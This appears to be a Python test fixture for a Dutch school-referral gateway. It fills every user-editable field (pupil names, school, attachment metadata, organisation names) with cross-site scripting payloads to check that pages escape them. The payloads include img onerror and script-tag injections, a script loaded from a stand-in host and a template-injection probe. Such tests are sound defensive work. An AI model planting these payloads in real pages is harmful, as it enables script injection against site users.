"""Words that would run in a page that does not escape them: in every field that people can fill."""

from __future__ import annotations

from dataclasses import replace

from adapters.parnassys.standin import files
from adapters.parnassys.standin.messages import File, Push
from browser.desk import Desk
from database.engine import writing
from database.organisaties import Swv
from dossier.brin import Brin, Vestiging
from dossier.identifiers import KoppelingId, OmgevingId, OrganisatieId, SwvId
from gateway.databases import open_gateway_database
from helpdesk import administration as admin
from routing.brin_list import ListedSchool
from routing.tables import Koppeling, KoppelingStatus, Organisatie

_SHORT = '"><img src=x onerror=alert({n})>'
_LONG = (
    _SHORT + "<script>alert(1)</script><script src=//elders.example/{n}.js></script>"
    "' onmouseover='alert(1) {{{{7*7}}}}"
)


def harm(name: str, short: bool = False) -> str:
    """For the field `name`, which can be found back by it."""
    return f"kwaad-{name}{(_SHORT if short else _LONG).format(n=len(name))}"


# What a page must show, as it was written: else the walk proves nothing about it.
OF_SCHOOL = ("schoolnaam", "hulpvraag-id")
OF_LEERLING = (
    "voornamen", "tussenvoegsel", "achternaam", "groep", "titel", "omschrijving", "indiener", "functie",
    "plaats", "bijlage", "bijlage-omschrijving", "bijlage-mediatype",
)  # fmt: skip
OF_BEHEERDER = ("organisatie", "swv", "omgeving", "lijst-naam", "lijst-plaats", "person")


def push_harm(desk: Desk) -> dict[str, str]:
    """Accepted once and refused once; what to put in the paths of pages."""
    secret = _settings(desk)
    accepted = _push("96XS")
    number = desk.delivered("parnassys-kwaad", accepted, secret)
    refused = replace(_push("17GU"), bericht_id=Push().bericht_id, hulpvraag_id=harm("id-2", short=True))
    assert desk.push("parnassys-kwaad", refused, secret).dossiernummer == -1
    return {
        "inzending": desk.reference(accepted),
        "afgewezen": desk.reference(refused),
        "dossiernummer": str(number),
        "organisatie": "kwaad",
        "koppeling": "k-kwaad",
        "omgeving": "parnassys-kwaad",
        "swv": "swv-kwaad",
        "brin": "96XS",
        "vestiging": "96XS00",
    }


def _settings(desk: Desk) -> str:
    """The secret of its omgeving."""
    brin, swv, omgeving = Brin("96XS"), SwvId("swv-kwaad"), OmgevingId("parnassys-kwaad")
    engine = open_gateway_database(desk.gateway.settings)
    with writing(engine) as connection:
        school = ListedSchool(
            brin=brin, vestiging=Vestiging("96XS00"), naam=harm("lijst-naam"), plaats=harm("lijst-plaats")
        )
        admin.put_listed_school(connection, "test", school)
        admin.put_swv(connection, "test", Swv(swv_id=swv, naam=harm("swv")))
        organisatie = Organisatie(
            organisatie_id=OrganisatieId("kwaad"),
            swv_id=swv,
            naam=harm("organisatie"),
            brin=brin,
            vestiging=None,
        )
        admin.put_organisatie(connection, "test", organisatie)
        secret = admin.give_secret(connection, "test", omgeving, harm("omgeving"))
        koppeling = Koppeling(
            koppeling_id=KoppelingId("k-kwaad"),
            omgeving_id=omgeving,
            swv_id=swv,
            status=KoppelingStatus.ACTIEF,
            brins=frozenset({brin}),
        )
        admin.put_koppeling(connection, "test", koppeling)
    engine.dispose()
    return secret


def _push(brin: str) -> Push:
    bijlage = File(
        naam=f"kwaad-bijlage{_SHORT.format(n=1)}.pdf",
        mediatype=harm("bijlage-mediatype", short=True),
        omschrijving=harm("bijlage-omschrijving"),
        content=files.pdf(harm("inhoud")),
    )
    return Push(
        brin=brin,
        school=harm("schoolnaam"),
        plaats=harm("plaats", short=True),
        leerling_id=harm("leerling-id", short=True),
        voornamen=harm("voornamen"),
        tussenvoegsel=harm("tussenvoegsel", short=True),
        achternaam=harm("achternaam"),
        groep=harm("groep", short=True),
        hulpvraag_id=harm("hulpvraag-id", short=True),
        titel=harm("titel"),
        omschrijving=harm("omschrijving"),
        indiener=harm("indiener"),
        functie=harm("functie"),
        email=harm("email", short=True),
        files=(bijlage,),
    )
